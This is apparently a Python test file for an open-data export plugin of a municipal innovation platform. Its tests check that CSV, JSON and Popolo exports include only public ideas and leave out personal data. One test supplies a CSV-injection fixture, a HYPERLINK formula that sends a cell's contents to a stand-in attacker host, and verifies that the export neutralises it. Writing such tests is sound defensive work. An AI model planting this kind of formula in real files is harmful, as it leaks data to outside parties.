"""opendata: public ideas as CSV/JSON and organisations as Popolo, with nothing personal."""

from __future__ import annotations

import csv
import io
import json

from innoplat.core.services import actors, ideas, methods
from innoplat.core.services.ideas import Submitter
from innoplat.plugins.opendata.exports import IDEA_FIELDS


def _ideas(app):
    platform = app.extensions["innoplat"]
    with platform.transaction() as session:
        city = platform.city_row(session)
        public = ideas.submit_idea(
            session,
            city,
            title="Uppvärmda busshållplatser",
            summary='Värme; från fjärrvärmenätet, "gratis"',
            focus_areas=["stadsomvandling"],
            submitter=Submitter(name="Anna Nilsson", email="anna@example.org", consent=True),
        )
        methods.apply_method(session, public, "living_lab")
        ideas.submit_idea(session, city, title="Intern utredning", visibility="internal")
        return public.reference


def test_the_csv_export_has_public_ideas_and_nothing_personal(plugin_client):
    client, app = plugin_client(["opendata"])
    reference = _ideas(app)
    response = client.get("/opendata/ideas.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == list(IDEA_FIELDS)
    assert [r["reference"] for r in rows] == [reference]
    assert rows[0]["summary"] == 'Värme; från fjärrvärmenätet, "gratis"'
    assert rows[0]["methods"] == "living_lab" and rows[0]["focus_areas"] == "stadsomvandling"
    assert rows[0]["url"].endswith(f"/ideas/{reference}")
    assert "Anna" not in text and "anna@example.org" not in text and "Intern utredning" not in text


def test_the_json_export_matches_the_csv(plugin_client):
    client, app = plugin_client(["opendata"])
    reference = _ideas(app)
    data = json.loads(client.get("/opendata/ideas.json").get_data(as_text=True))
    assert data["meta"]["city"] == "kiruna" and data["meta"]["fields"] == list(IDEA_FIELDS)
    (idea,) = data["ideas"]
    assert idea["reference"] == reference and idea["methods"] == ["living_lab"]
    assert idea["sdgs"] == [9, 11] and "anna" not in json.dumps(data).lower()


def test_organisations_and_memberships_as_popolo(plugin_client):
    client, app = plugin_client(["opendata"])
    platform = app.extensions["innoplat"]
    with platform.transaction() as session:
        city = platform.city_row(session)
        person = actors.add_person(
            session, city, name="Olle Innovatör", email="olle@example.org", consent=True
        )
        org = actors.get_organisation(session, city, "tekniska-verken-i-kiruna")
        actors.add_membership(session, person, org, "innovation coordinator")
    data = json.loads(client.get("/opendata/popolo.json").get_data(as_text=True))
    by_key = {o["identifiers"][0]["identifier"]: o for o in data["organizations"]}
    assert by_key["kiruna-kommun"]["classification"] == "municipality"
    assert by_key["tekniska-verken-i-kiruna"]["parent_id"] == by_key["kiruna-kommun"]["id"]
    (membership,) = data["memberships"]
    assert membership["organization_id"] == by_key["tekniska-verken-i-kiruna"]["id"]
    assert membership["role"] == "innovation coordinator"
    assert "Olle" not in json.dumps(data) and "olle@example.org" not in json.dumps(data)


def test_the_exports_are_linked_from_the_site(plugin_client):
    client, app = plugin_client(["opendata"])
    home = client.get("/?lang=en").get_data(as_text=True)
    assert 'href="/opendata/"' in home
    page = client.get("/opendata/?lang=en").get_data(as_text=True)
    for href in ("/opendata/ideas.csv", "/opendata/ideas.json", "/opendata/popolo.json"):
        assert f'href="{href}"' in page
    if "api.index" in app.view_functions:
        assert "/api/v1" in page


def test_no_cell_of_the_csv_runs_as_a_formula_in_a_spreadsheet(plugin_client):
    """OWASP CSV injection: text starting with = + - @ tab or CR gets a leading apostrophe."""
    client, app = plugin_client(["opendata"])
    platform = app.extensions["innoplat"]
    attack = '=HYPERLINK("https://evil.example/?"&A1,"Klicka här")'
    with platform.transaction() as session:
        city = platform.city_row(session)
        ideas.submit_idea(
            session, city, title=attack, summary="+46 70 123 45 67; -ett förslag; =1+1"
        )
        ideas.submit_idea(session, city, title="@SUM(1+1)", summary="-20 grader i januari")
    text = client.get("/opendata/ideas.csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["title"] for r in rows] == ["'" + attack, "'@SUM(1+1)"]
    assert rows[0]["summary"] == "'+46 70 123 45 67; -ett förslag; =1+1"
    assert rows[1]["summary"] == "'-20 grader i januari"
    # Every text cell is quoted: a spreadsheet splitting on ";" keeps "…; =1+1" in one cell.
    assert f'"\'{attack.replace(chr(34), chr(34) * 2)}"' in text
    assert all(line.startswith('"') for line in text.splitlines() if line)
